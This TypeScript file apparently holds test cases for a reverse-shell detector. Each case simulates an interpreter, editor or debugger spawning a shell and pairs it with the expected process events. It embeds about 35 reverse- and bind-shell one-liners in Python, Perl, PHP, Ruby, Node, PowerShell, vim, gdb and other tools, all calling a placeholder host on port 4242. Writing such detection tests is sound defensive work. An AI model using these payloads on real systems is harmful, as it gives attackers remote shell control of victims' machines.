// Code of interpreters, editors and debuggers.
import { attack, becomes, PEER, spawns, typed, type Attack } from './attack.js';

export const CODE: readonly Attack[] = [
  attack('python3 with dup2', 'execve', (host) => {
    const code = `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${PEER}",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`;
    spawns(host.login().run(['python3', '-c', code]), ['/bin/sh', '-i']);
  }),
  attack('python2 with a pseudo terminal, IPv6', 'execve', (host) => {
    const code =
      'import socket,os,pty;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);s.connect(("2001:db8::66",4242));[os.dup2(s.fileno(),f) for f in range(3)];pty.spawn("/bin/sh")';
    const python = host.login().run(['python', '-c', code]).connect('2001:db8::66', 4242);
    typed(python.fork().exec(['/bin/sh']));
  }),
  attack('python that runs one command at a time', 'execve', (host) => {
    const code = `import socket,os\ns=socket.create_connection(("${PEER}",4242))\nwhile 1: s.send(os.popen(s.recv(999).decode()).read().encode())`;
    const python = host.login().run(['python3.12', '-c', code]).connect(PEER, 4242);
    python.run(['/bin/sh', '-c', 'id']).run(['id']);
    python.run(['/bin/sh', '-c', 'whoami']).run(['whoami']);
  }),
  attack('python that listens', 'execve', (host) => {
    const code =
      'import socket as s,subprocess as p;l=s.socket();l.bind(("",51337));l.listen();c,_=l.accept();p.run(["sh"],stdin=c,stdout=c,stderr=c)';
    const python = host.login().run(['python3', '-c', code]).listen(51_337).accept(PEER);
    typed(python.fork().exec(['sh']));
  }),
  attack('python from a file', 'network', (host) => {
    spawns(host.login().run(['python3', '/home/dev/r.py']), ['/bin/bash']);
  }),
  attack('python from a file, of a service', 'execve', (host) => {
    spawns(host.running('/usr/sbin/cron').run(['/usr/bin/python3', '/opt/x.py']), [
      '/bin/sh',
      '-i',
    ]);
  }),
  attack('python over UDP that does not connect', 'execve', (host) => {
    const code = `import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.sendto(b"x",("${PEER}",53))\nwhile 1: s.sendto(subprocess.getoutput(s.recvfrom(99)[0]).encode(),("${PEER}",53))`;
    host.login().run(['python3', '-c', code]).run(['/bin/sh', '-c', 'id']);
  }),
  attack('perl that becomes a shell', 'execve', (host) => {
    const code = `use Socket;$i="${PEER}";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};`;
    becomes(host.login().run(['perl', '-e', code]), ['/bin/sh', '-i']);
  }),
  attack('perl without sh', 'execve', (host) => {
    const code = `$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"${PEER}:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`;
    const perl = host.login().run(['perl', '-MIO', '-e', code]);
    typed(perl.fork().connect(PEER, 4242));
  }),
  attack('perl with qx', 'execve', (host) => {
    const code = `use IO::Socket;$s=IO::Socket::INET->new("${PEER}:1");while(<$s>){print $s qx($_)}`;
    host.login().run(['perl', '-e', code]).connect(PEER, 1).run(['sh', '-c', 'id; ls']);
  }),
  attack('python that hides its names', 'execve', (host) => {
    const code = `a=__import__;c=a("socket").socket();c.connect(("${PEER}",1));a("os").dup2(c.fileno(),0);a("pty").spawn("/bin/sh")`;
    spawns(host.login().run(['python3', '-c', code]), ['/bin/sh']);
  }),
  attack('perl from a file', 'network', (host) => {
    becomes(host.login().run(['perl', '/var/www/cgi-bin/p.pl']), ['/bin/bash']);
  }),
  attack('php with exec and a numbered descriptor', 'execve', (host) => {
    const php = host
      .login()
      .run(['php', '-r', `$sock=fsockopen("${PEER}",4242);exec("/bin/sh -i <&3 >&3 2>&3");`]);
    const shell = php.connect(PEER, 4242).run(['sh', '-c', '/bin/sh -i <&3 >&3 2>&3']);
    typed(shell.run(['/bin/sh', '-i']));
  }),
  attack('a page of PHP in a web server', 'execve', (host) => {
    const worker = host.running('/usr/sbin/php-fpm8.1').connect(PEER, 1234);
    const shell = worker.run(['sh', '-c', 'uname -a; w; id; /bin/sh -i']);
    typed(shell);
    typed(shell.run(['/bin/sh', '-i']));
  }),
  attack('a page of PHP that listens to commands', 'network', (host) => {
    const worker = host.running('/usr/sbin/apache2').connect(PEER, 1234);
    typed(worker.run(['sh', '-c', '/bin/sh']));
  }),
  attack('ruby that becomes a shell', 'execve', (host) => {
    const code = `f=TCPSocket.open("${PEER}",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`;
    becomes(host.login().run(['ruby', '-rsocket', '-e', code]), [
      'sh',
      '-c',
      '/bin/sh -i <&5 >&5 2>&5',
    ]);
  }),
  attack('ruby without sh', 'execve', (host) => {
    const code = `exit if fork;c=TCPSocket.new("${PEER}","4242");loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,?r){|io|c.print io.read}}`;
    const ruby = host
      .login()
      .run(['ruby', '-rsocket', `-e${code}`])
      .fork()
      .connect(PEER, 4242);
    typed(ruby);
  }),
  attack('lua', 'execve', (host) => {
    const code = `require('socket');require('os');t=socket.tcp();t:connect('${PEER}','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');`;
    const lua = host.login().run(['lua5.1', '-e', code]).connect(PEER, 4242);
    typed(lua.run(['sh', '-c', '/bin/sh -i <&3 >&3 2>&3']).run(['/bin/sh', '-i']));
  }),
  attack('gawk', 'execve', (host) => {
    const code = `BEGIN {s = "/inet/tcp/0/${PEER}/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}`;
    const awk = host
      .login()
      .run(['awk', code, '/dev/null'], { exe: '/usr/bin/gawk' })
      .connect(PEER, 4242);
    awk.run(['/bin/sh', '-c', 'id']).run(['id']);
  }),
  attack('node', 'execve', (host) => {
    const code = `(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4242,"${PEER}",function(){client.pipe(sh.stdin)});})();`;
    const node = host.login().run(['node', '-e', code]);
    typed(node.fork().exec(['/bin/sh']));
    node.connect(PEER, 4242);
  }),
  attack('a program in node', 'network', (host) => {
    spawns(host.login().run(['node', '/srv/app/index.js']), ['/bin/bash', '-i']);
  }),
  attack('java from a class', 'network', (host) => {
    const java = host.running('/usr/lib/jvm/java-11/bin/java').connect(PEER, 4242);
    typed(java.run(['/usr/lib/jvm/java-11/lib/jspawnhelper', '10:13']).exec(['/bin/sh']));
  }),
  attack('java that runs a redirection', 'execve', (host) => {
    const java = host.running('/usr/lib/jvm/java-17/bin/java');
    const text = `exec 5<>/dev/tcp/${PEER}/4242;cat <&5 | while read line; do $line 2>&5 >&5; done`;
    java.run(['/bin/bash', '-c', text]).connect(PEER, 4242).run(['cat']);
  }),
  attack('groovy', 'execve', (host) => {
    const code = `String h="${PEER}";Process p=new ProcessBuilder("sh").redirectErrorStream(true).start();Socket s=new Socket(h,4242);`;
    const java = host
      .login()
      .run([
        'java',
        '-cp',
        '/usr/share/groovy/lib/groovy.jar',
        'org.codehaus.groovy.tools.GroovyStarter',
        '-e',
        code,
      ]);
    typed(java.run(['sh']));
  }),
  attack('go run', 'network', (host) => {
    const program = host
      .login()
      .run(['go', 'run', '/home/dev/t.go'], { exe: '/usr/local/go/bin/go' });
    spawns(program.run(['/home/dev/.cache/go-build/t'], { exe: '/home/dev/.cache/go-build/t' }), [
      '/bin/sh',
    ]);
  }),
  attack('tclsh', 'execve', (host) => {
    const code = `set s [socket ${PEER} 4242];while 1 { gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r };flush $s}`;
    host
      .login()
      .run(['sh', '-c', `echo '${code}' | tclsh`])
      .run(['tclsh'])
      .connect(PEER, 4242)
      .run(['id']);
  }),
  attack('PowerShell', 'execve', (host) => {
    const code = `$c=New-Object System.Net.Sockets.TCPClient('${PEER}',4242);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(iex $t 2>&1)}`;
    host
      .login()
      .run(['pwsh', '-c', code], { exe: '/opt/microsoft/powershell/7/pwsh' })
      .connect(PEER, 4242);
  }),
  attack('gdb', 'execve', (host) => {
    const code = `python import sys,socket,os,pty;s=socket.socket();s.connect(("${PEER}",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
    spawns(host.login().run(['gdb', '-nx', '-ex', code, '-ex', 'quit']), ['/bin/sh']);
  }),
  attack('vim', 'execve', (host) => {
    const code = `:py3 import vim,sys,socket,os,pty;s=socket.socket();s.connect(("${PEER}",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
    spawns(host.login().run(['vim', '-c', code]), ['/bin/sh']);
  }),
  attack('rview', 'execve', (host) => {
    const code = `:lua local s=require("socket");local t=assert(s.tcp());t:connect("${PEER}",4242);while true do local r=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));end`;
    host
      .login()
      .run(['rview', '-c', code], { exe: '/usr/bin/vim.nox' })
      .connect(PEER, 4242)
      .run(['sh', '-c', 'id']);
  }),
  attack('julia', 'execve', (host) => {
    const code = `using Sockets; c=connect("${PEER}",4242); run(pipeline(\`sh\`, stdin=c, stdout=c))`;
    spawns(host.login().run(['julia', '-e', code]), ['sh']);
  }),
  attack('deno', 'execve', (host) => {
    const code = `const c=await Deno.connect({hostname:"${PEER}",port:4242});new Deno.Command("sh",{stdin:"piped"}).spawn();`;
    spawns(host.login().run(['deno', 'eval', code]), ['sh']);
  }),
  attack('crystal', 'execve', (host) => {
    const code = `require "socket";c=TCPSocket.new("${PEER}",4242);Process.run("sh",input:c,output:c,error:c)`;
    spawns(host.login().run(['crystal', 'eval', code]), ['sh']);
  }),
  attack('erlang', 'execve', (host) => {
    const code = `{ok,S}=gen_tcp:connect("${PEER}",4242,[]),P=open_port({spawn,"sh"},[]).`;
    const erl = host.login().run(['erl', '-noshell', '-eval', code]);
    spawns(erl, ['sh', '-c', 'exec sh']);
  }),
];
